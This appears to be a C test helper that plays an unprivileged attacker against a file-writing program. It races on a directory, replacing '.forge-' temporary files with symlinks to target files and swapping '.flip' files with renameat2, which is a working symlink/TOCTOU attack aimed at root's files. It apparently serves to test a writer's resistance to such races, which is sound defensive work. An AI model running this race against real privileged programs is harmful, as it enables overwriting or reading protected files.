/* An unprivileged user who wants root's files: replaces everything that appears in a directory with links to them.
 *
 * attacker DIRECTORY COUNTS TARGET...
 * - Moves entries with `.forge-` in their name, the temporary files of a writer, away as soon as they appear, and
 *   replaces them with a link to one of the targets.
 * - Swaps each `NAME.flip` with `NAME`, repeatedly.
 * Writes the number of grabs and flips to COUNTS. Runs until it is killed. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static long grabbed, flipped;

static void grab(const char *name, const char *target) {
    char away[400];
    snprintf(away, sizeof away, ".got-%ld", grabbed);
    if (rename(name, away) != 0) return;
    if (symlink(target, name) == 0) grabbed++;
}

static void flip(const char *name, size_t length) {
    char plain[300];
    if (length - 5 >= sizeof plain) return;
    memcpy(plain, name, length - 5);
    plain[length - 5] = 0;
    if (renameat2(AT_FDCWD, name, AT_FDCWD, plain, RENAME_EXCHANGE) == 0) flipped++;
}

int main(int argc, char **argv) {
    if (argc < 4 || chdir(argv[1]) != 0) return 1;
    int counts = open(argv[2], O_WRONLY | O_CREAT, 0644);
    DIR *here = opendir(".");
    if (!here || counts < 0) return 1;
    for (;;) {
        struct dirent *entry;
        rewinddir(here);
        while ((entry = readdir(here))) {
            const char *name = entry->d_name;
            size_t length = strlen(name);
            if (strstr(name, ".forge-") && entry->d_type != DT_LNK) grab(name, argv[3 + grabbed % (argc - 3)]);
            else if (length > 5 && strcmp(name + length - 5, ".flip") == 0) flip(name, length);
        }
        /* After each turn, in one call, and never an empty file: the test may kill this program at any moment. */
        char text[64];
        int length = snprintf(text, sizeof text, "%20ld %20ld\n", grabbed, flipped);
        if (pwrite(counts, text, length, 0) != length) return 1;
    }
}
